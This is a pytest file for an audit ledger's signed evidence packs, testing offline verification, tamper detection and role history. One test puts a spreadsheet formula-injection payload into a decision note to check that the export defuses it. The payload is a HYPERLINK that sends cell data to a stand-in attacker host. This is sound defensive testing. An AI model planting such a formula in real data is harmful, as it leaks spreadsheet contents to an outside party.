"""An auditor's evidence pack: built over a period of real work, verified offline by someone
with no access to the ledger, and every tampering found and named.

The period holds completed runs, a worker evicted mid-email and recovered after a supervisor's
decision, an abandoned run, an approval and a denial, a budget policy change, a person whose
role was later taken away, an incident, and a purge of old runs.
"""

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from audit.evidence import PackScope, evidence_pack_write, evidence_scope_parse
from audit.evidence_verify import verify_pack
from audit.incidents import incident_open
from audit.models import IncidentSeverity
from audit.retention import retention_policy_update, retention_purge
from audit.signing import private_key_generate, private_key_parse
from audit.verify import OFFLINE_FILES, load_public_key
from bench.testdata import runs_bulk_create
from dashboard.roles import ADMINS, AUDITORS, SUPERVISORS
from dashboard.services.people import people_groups_set, people_local_create
from review.services.policies import budget_policy_save
from review.services.resolutions import (
    review_step_approve,
    review_step_deny,
    review_step_resolve,
)
from tests.audit.conftest import PUBLIC_KEY
from tests.review.factories import (
    PASSWORD,
    finish_run_as_worker,
    groups_ready,
    killed_support_run,
    run_awaiting_approval,
    user_in,
)

ROOT = Path(__file__).resolve().parents[2]


@dataclass
class Story:
    recovered: str
    abandoned: str
    approved: str
    denied: str
    purged: list[Any]
    completed: list[Any]


def _period_of_work() -> Story:
    """A day at the support desk, through the ledger's own services."""
    groups_ready()
    root = user_in(ADMINS, "root-admin")
    avery = people_local_create(
        actor=root, username="avery", email="", password=PASSWORD, groups=[SUPERVISORS]
    )
    bob = people_local_create(
        actor=root, username="bob", email="", password=PASSWORD, groups=[SUPERVISORS]
    )
    carol = people_local_create(
        actor=root, username="carol", email="", password=PASSWORD, groups=[ADMINS]
    )
    audrey = people_local_create(
        actor=root, username="audrey", email="", password=PASSWORD, groups=[AUDITORS]
    )

    # old work, purged under a retention policy (the floor is 183 days)
    old = runs_bulk_create(runs=3, steps_per_run=2, created_at=timezone.now() - timedelta(days=400))
    retention_policy_update(user=carol, enabled=True, keep_days=200)
    purge = retention_purge(actor=carol)
    assert purge.purged == 3, purge

    completed = runs_bulk_create(runs=4, steps_per_run=3, agent="support")
    policy = budget_policy_save(
        user=carol,
        policy=None,
        values={
            "name": "support",
            "agent": "support",
            "max_steps": 20,
            "max_tokens": 10_000,
            "max_wall_seconds": 3600,
            "max_recoveries": 3,
        },
    )
    budget_policy_save(
        user=carol, policy=policy, values={"max_tokens": 20_000, "note": "bigger tickets"}
    )

    # evicted while emailing; avery checks the mailbox, says it was sent; the worker finishes
    recovered = killed_support_run(customer="ada@example.com")
    review_step_resolve(
        user=avery, run_id=recovered.run_id, index=2, action="sent", note="in the outbox"
    )
    finish_run_as_worker(recovered.run_id)
    # another eviction: bob abandons it
    abandoned = killed_support_run(customer="bo@example.com")
    review_step_resolve(
        user=bob, run_id=abandoned.run_id, index=2, action="abandon", note="customer left"
    )
    # avery is no longer a supervisor afterwards: her decision keeps the role she had then
    people_groups_set(actor=root, user_id=avery.pk, groups=[])

    approved = run_awaiting_approval(customer="cy@example.com")
    review_step_approve(user=carol, run_id=approved.run_id, index=1, note="refund agreed")
    denied = run_awaiting_approval(customer="di@example.com")
    review_step_deny(user=carol, run_id=denied.run_id, index=1, note="not this customer")

    incident_open(
        user=audrey,
        run_ids=[abandoned.run_id],
        title="Refund mail maybe sent twice",
        severity=IncidentSeverity.SERIOUS,
        aware_at=timezone.now() - timedelta(hours=2),
        notes="Customer complained",
    )
    return Story(
        recovered=recovered.run_id,
        abandoned=abandoned.run_id,
        approved=approved.run_id,
        denied=denied.run_id,
        purged=old,
        completed=completed,
    )


def _today_scope() -> PackScope:
    today = timezone.now().date()
    return evidence_scope_parse(period_from=today - timedelta(days=1), period_to=today)


def _pack(path: Path, scope: PackScope | None = None) -> Path:
    with path.open("wb") as handle:
        evidence_pack_write(scope=scope or _today_scope(), target=handle, generated_by="test")
    return path


def _rows(pack: Path, name: str) -> list[dict[str, str]]:
    with zipfile.ZipFile(pack) as z:
        return list(csv.DictReader(io.StringIO(z.read(name).decode())))


def _offline_python(folder: Path) -> tuple[list[str], dict[str, str]]:
    """A Python that has `cryptography` and not Django: the system's (another interpreter and
    another cryptography than the server's), else this one without its site-packages and with
    a copy of `cryptography` (and what it loads) in the folder."""
    env = {"PATH": "/usr/bin:/bin"}
    system = shutil.which("python3", path="/usr/bin:/bin")
    if system and os.path.realpath(system) != os.path.realpath(sys.executable):
        probe = subprocess.run(
            [system, "-c", "import cryptography"], capture_output=True, env={}, check=False
        )
        if probe.returncode == 0:
            return [system], env
    import cryptography

    site = Path(cryptography.__file__).parents[1]
    deps = folder / "deps"
    deps.mkdir(exist_ok=True)
    for entry in site.iterdir():
        if entry.name in ("cryptography", "cffi") or entry.name.startswith("_cffi_backend"):
            copy = shutil.copytree if entry.is_dir() else shutil.copy
            copy(entry, deps / entry.name)
    return [sys.executable, "-S"], {**env, "PYTHONPATH": str(deps)}


def _as_an_outsider(args: list[str], workdir: Path) -> subprocess.CompletedProcess[str]:
    """Run as an unprivileged user (nobody, when we are root) with an empty environment: no
    DJANGO_SETTINGS_MODULE, no DATABASE_URL, cwd outside the repository."""
    python, env = _offline_python(workdir)
    for path in [workdir, *workdir.rglob("*")]:
        path.chmod(0o755 if path.is_dir() or path.suffix == ".so" else 0o644)
    command = [*python, *args]
    if os.geteuid() == 0:
        runuser = shutil.which("runuser") or "/usr/sbin/runuser"
        command = [runuser, "-u", "nobody", "--", *command]
    return subprocess.run(
        command, cwd=workdir, env=env, capture_output=True, text=True, timeout=120, check=False
    )


def _offline_folder(pack: Path) -> Path:
    """Only the verifier's files (the list the exports page gives auditors) and the pack, in a
    folder anyone can read."""
    folder = Path(tempfile.mkdtemp(prefix="evidence-offline-"))
    for name in OFFLINE_FILES:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(ROOT / name, folder / name)
    shutil.copy(pack, folder / "pack.zip")
    return folder


def test_a_pack_of_a_period_of_work_verifies_offline_as_an_outsider(
    db: Any, tmp_path: Path, client_for: Callable[[str], Client]
) -> None:
    story = _period_of_work()
    pack = _pack(tmp_path / "pack.zip")

    with zipfile.ZipFile(pack) as z:
        names = set(z.namelist())
        manifest = json.loads(z.read("manifest.json"))["manifest"]
        incidents = json.loads(z.read("incidents.json"))
        policies = json.loads(z.read("policies.json"))
        retention = json.loads(z.read("retention.json"))
        purges = [json.loads(x) for x in z.read("purges.jsonl").splitlines()]
        readme = z.read("README.md").decode()
        run_lines = [json.loads(x) for x in z.read("runs.jsonl").splitlines()]
    assert names == {f["path"] for f in manifest["files"]} | {"manifest.json"}
    assert manifest["period"]["to"] == timezone.now().date().isoformat()
    assert (
        manifest["generator"]["name"] == "agent-ledger-server" and manifest["generator"]["version"]
    )
    in_pack = {r["run"]["id"] for r in run_lines if r["kind"] == "run"}
    assert {story.recovered, story.abandoned, story.approved, story.denied} <= in_pack
    assert {str(r) for r in story.completed} <= in_pack
    assert not {str(r) for r in story.purged} & in_pack
    recovered = next(
        r for r in run_lines if r["kind"] == "run" and r["run"]["id"] == story.recovered
    )
    assert recovered["run"]["status"] == "completed"
    assert "lease_expired" in [e["type"] for e in recovered["events"]]  # the crash, recorded

    decisions = _rows(pack, "decisions.csv")
    said = [(d["run_id"], d["by"], d["role"], d["action"], d["tool"], d["note"]) for d in decisions]
    assert (story.recovered, "avery", "supervisors", "sent", "email.send", "in the outbox") in said
    assert (story.abandoned, "bob", "supervisors", "abandon", "email.send", "customer left") in said
    assert (story.approved, "carol", "admins", "approve", "email.send", "refund agreed") in said
    assert (story.denied, "carol", "admins", "deny", "email.send", "not this customer") in said
    approval = next(d for d in decisions if d["action"] == "approve")
    assert approval["approval_rule_id"] and "email.*" in approval["approval_rule"]

    people = {p["username"]: p for p in _rows(pack, "people.csv")}
    assert people["avery"]["groups_at_period_end"] == "" and people["avery"]["groups_now"] == ""
    events = _rows(pack, "people_events.csv")
    assert ("people.groups", "", "supervisors") in [
        (e["action"], e["added"], e["removed"]) for e in events
    ]
    assert [i["runs"] for i in incidents] == [[story.abandoned]]
    assert incidents[0]["severity"] == "serious" and incidents[0]["status"] == "open"
    assert [h["action"] for h in incidents[0]["history"]] == ["incident.open"]
    assert [c["action"] for c in policies["changes_in_period"]] == [
        "policy.create",
        "policy.update",
    ]
    assert policies["changes_in_period"][1]["details"]["after"]["max_tokens"] == 20_000
    assert retention["floor_days"] == 183 and retention["policy_now"]["keep_days"] == 200
    assert {r["id"] for p in purges for r in p["details"]["runs"]} == {str(r) for r in story.purged}
    for article in (
        "12(1)",
        "12(2)(a)",
        "14(4)(d)",
        "19(1)",
        "26(6)",
        "Art. 72",
        "Art. 73",
        "A.6.2.8",
    ):
        assert article in readme

    report = verify_pack(str(pack), [load_public_key(PUBLIC_KEY)])
    assert report.ok, report.problems
    # and the bench runs' own resolution (every tenth run has one, by a name no user has)
    assert ("alice", "unknown (no such user)") in [(d["by"], d["role"]) for d in decisions]
    assert report.decisions == len(decisions) == 5

    # an outsider: another user, no settings, no database, only the verifier's files
    folder = _offline_folder(pack)
    try:
        no_django = _as_an_outsider(["-c", "import django"], folder)
        assert no_django.returncode != 0 and "No module named 'django'" in no_django.stderr
        result = _as_an_outsider(["-m", "audit.verify", "pack.zip"], folder)
        pinned = _as_an_outsider(
            ["-m", "audit.verify", "pack.zip", "--public-key", PUBLIC_KEY], folder
        )
    finally:
        shutil.rmtree(folder)
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.strip().endswith("OK")
    assert pinned.returncode == 0, pinned.stdout + pinned.stderr
    # the fingerprint it prints is the one the ledger's checkpoints page shows
    fingerprint = report.fingerprint
    assert f"fingerprint (SHA-256): {fingerprint}" in result.stdout
    assert fingerprint in client_for("auditors").get("/audit/checkpoints/").content.decode()


def _rewritten(pack: Path, out: Path, change: Callable[[str, bytes], bytes]) -> Path:
    with zipfile.ZipFile(pack) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, change(info.filename, src.read(info.filename)))
    return out


def _flip(data: bytes, at: int) -> bytes:
    """One byte changed (an empty file, such as a period without purges, gets one)."""
    if not data:
        return b"{}"[:1]
    changed = bytearray(data)
    changed[at] ^= 0x01
    return bytes(changed)


@pytest.fixture
def small_pack(db: Any, tmp_path: Path) -> Path:
    groups_ready()
    carol = user_in(ADMINS, "carol")
    killed = killed_support_run()
    review_step_resolve(user=carol, run_id=killed.run_id, index=2, action="sent", note="seen")
    runs_bulk_create(runs=3, steps_per_run=2)
    waiting = run_awaiting_approval()
    review_step_approve(user=carol, run_id=waiting.run_id, index=1, note="ok")
    return _pack(tmp_path / "small.zip")


def test_changing_one_byte_of_any_file_fails_and_names_that_file(
    small_pack: Path, tmp_path: Path
) -> None:
    key = [load_public_key(PUBLIC_KEY)]
    assert verify_pack(str(small_pack), key).ok
    with zipfile.ZipFile(small_pack) as z:
        names = z.namelist()
    assert len(names) == 12
    for name in names:
        for at in (0.5, 0.9):

            def one_byte(member: str, data: bytes, name: str = name, at: float = at) -> bytes:
                return _flip(data, int(len(data) * at)) if member == name else data

            tampered = _rewritten(small_pack, tmp_path / "tampered.zip", one_byte)
            for keys in (key, None):  # with the auditor's key, and with the pack's own
                report = verify_pack(str(tampered), keys)
                assert not report.ok, (name, at)
                assert report.problems[0].file == name, (name, at, report.problems[:3])


def test_a_deleted_decision_with_the_manifest_rehashed_fails_on_the_signature(
    small_pack: Path, tmp_path: Path
) -> None:
    with zipfile.ZipFile(small_pack) as z:
        body = json.loads(z.read("manifest.json"))
        lines = z.read("decisions.csv").decode().splitlines(keepends=True)
    # the header, the bench run's resolution, carol's resolution and her approval
    assert len(lines) == 4
    carols = next(n for n, line in enumerate(lines) if ",carol," in line and ",sent," in line)
    shorter = "".join(lines[:carols] + lines[carols + 1 :]).encode()
    import hashlib

    for entry in body["manifest"]["files"]:
        if entry["path"] == "decisions.csv":
            entry["sha256"] = hashlib.sha256(shorter).hexdigest()
            entry["bytes"] = len(shorter)
    rehashed = json.dumps(body).encode()
    tampered = _rewritten(
        small_pack,
        tmp_path / "rehashed.zip",
        lambda member, data: {"decisions.csv": shorter, "manifest.json": rehashed}.get(
            member, data
        ),
    )
    report = verify_pack(str(tampered), [load_public_key(PUBLIC_KEY)])
    assert not report.ok and not report.signed
    assert report.problems[0].file == "manifest.json"
    assert "signature does not verify" in report.problems[0].message
    # the row check names the row too: the deleted resolution
    row = next(p for p in report.problems if p.file == "decisions.csv")
    assert row.where.startswith(f"row {carols + 1} ")


def test_a_pack_checked_against_another_key_fails(small_pack: Path) -> None:
    other = private_key_parse(private_key_generate()).public_key()
    report = verify_pack(str(small_pack), [other])
    assert not report.ok and report.problems[0].file == "manifest.json"
    assert "signed by key id" in report.problems[0].message
    outsider = subprocess.run(
        [sys.executable, "-m", "audit.verify", str(small_pack), "--public-key", PUBLIC_KEY],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
        env={"PATH": os.environ["PATH"]},
    )
    assert outsider.returncode == 0, outsider.stdout


def test_the_command_writes_a_pack_of_one_agent(db: Any, tmp_path: Path) -> None:
    from django.core.management import call_command

    runs_bulk_create(runs=2, steps_per_run=1, agent="alpha")
    runs_bulk_create(runs=3, steps_per_run=1, agent="beta")
    today = timezone.now().date()
    since = (today - timedelta(days=1)).isoformat()  # the bench's runs are an hour old
    out = io.StringIO()
    path = tmp_path / "alpha.zip"
    call_command(
        "evidence_pack", "--from", since, "--to", str(today), "--agent", "alpha", "-o", str(path),
        stdout=out,
    )  # fmt: skip
    assert "2 runs" in out.getvalue()
    report = verify_pack(str(path))
    assert report.ok and report.runs == 2
    assert report.manifest["filters"] == {"agents": ["alpha"], "team": "default"}
    with zipfile.ZipFile(path) as z:
        agents = {json.loads(x)["run"]["agent"] for x in z.read("runs.jsonl").splitlines()[1:-1]}
    assert agents == {"alpha"}


def test_a_note_a_spreadsheet_would_run_is_defused_and_still_verifies(
    db: Any, tmp_path: Path
) -> None:
    groups_ready()
    carol = user_in(ADMINS, "carol")
    killed = killed_support_run()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    review_step_resolve(user=carol, run_id=killed.run_id, index=2, action="sent", note=formula)

    pack = _pack(tmp_path / "formula.zip")

    (row,) = _rows(pack, "decisions.csv")
    assert row["note"] == "'" + formula and row["role"] == "admins"
    assert verify_pack(str(pack), [load_public_key(PUBLIC_KEY)]).ok


def test_without_a_signing_key_the_command_refuses_and_writes_nothing(
    db: Any, tmp_path: Path, settings: Any
) -> None:
    from django.core.management import CommandError, call_command

    settings.AUDIT_SIGNING_KEY = ""
    settings.DEBUG = False
    today = timezone.now().date().isoformat()
    path = tmp_path / "none.zip"
    with pytest.raises(CommandError, match="generate_signing_key"):
        call_command("evidence_pack", "--from", today, "--to", today, "-o", str(path))
    assert list(tmp_path.iterdir()) == []


def test_a_single_sign_on_users_decision_keeps_the_role_the_provider_gave_then(
    db: Any, tmp_path: Path
) -> None:
    """Their groups come from the provider at each sign-in: a supervisor who decides and later
    signs in as an auditor is a supervisor in the decision's row; the sign-ins and the role
    change are in people_events.csv."""
    from sso.services import sso_sign_in
    from tests.sso.test_sso_sign_in import ISSUER, claims, conf

    groups_ready()
    kim = sso_sign_in(conf=conf(), issuer=ISSUER, claims=claims("kc-kim", "ledger-sup")).user
    killed = killed_support_run()
    review_step_resolve(
        user=kim,
        run_id=killed.run_id,
        index=2,
        action="retry",
        note="not sent",
        confirmed_may_repeat=True,
    )
    sso_sign_in(conf=conf(), issuer=ISSUER, claims=claims("kc-kim", "ledger-audit"))

    pack = _pack(tmp_path / "sso.zip")

    (row,) = _rows(pack, "decisions.csv")
    assert (row["by"], row["role"], row["action"]) == (kim.username, "supervisors", "retry")
    people = {p["username"]: p for p in _rows(pack, "people.csv")}
    assert people[kim.username]["source"] == f"sso:{ISSUER}"
    assert people[kim.username]["groups_at_period_end"] == "auditors"
    events = [(e["action"], e["added"], e["removed"]) for e in _rows(pack, "people_events.csv")]
    assert ("sso.roles", "auditors", "supervisors") in events
    assert [a for a, _, _ in events].count("sso.login") == 2
    assert verify_pack(str(pack), [load_public_key(PUBLIC_KEY)]).ok


def test_the_exports_page_queues_a_pack_whose_job_page_offers_the_download(
    client_for: Callable[[str], Client], tmp_path: Path
) -> None:
    from audit.exports import export_job_run
    from audit.models import ExportJob, ExportStatus
    from dashboard.audit import AuditEntry

    runs_bulk_create(runs=6, steps_per_run=2, agent="support")
    auditor = client_for("auditors")
    today = timezone.now().date()
    assert "Build evidence pack" in auditor.get("/audit/exports/").content.decode()
    bad = auditor.post(
        "/audit/evidence/", {"period_from": str(today), "period_to": str(today - timedelta(1))}
    )
    assert (
        bad.status_code == 400 and "The end date is before the start date." in bad.content.decode()
    )
    assert client_for("supervisors").post("/audit/evidence/", {}).status_code == 403

    response = auditor.post(
        "/audit/evidence/",
        {
            "period_from": str(today - timedelta(days=1)),
            "period_to": str(today),
            "agents": "support",
        },
    )

    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/audit/exports/{job.pk}/"
    assert (job.format, job.status, job.total_runs) == ("evidence", ExportStatus.QUEUED, 6)
    assert AuditEntry.objects.get(action="evidence.queue").target == f"export:{job.pk}"
    export_job_run(job_id=job.pk)  # what the Celery task does
    job.refresh_from_db()
    assert job.status == ExportStatus.DONE and job.done_runs == 6
    assert job.file_name == f"intentledger-evidence-{job.pk}.zip"
    download = auditor.get(f"/audit/exports/{job.pk}/download")
    assert download["Content-Type"] == "application/zip"
    path = tmp_path / "downloaded.zip"
    path.write_bytes(b"".join(download.streaming_content))  # type: ignore[attr-defined]
    report = verify_pack(str(path), [load_public_key(PUBLIC_KEY)])
    assert report.ok and report.runs == 6
    assert report.manifest["created_by"] == "auditors-user"
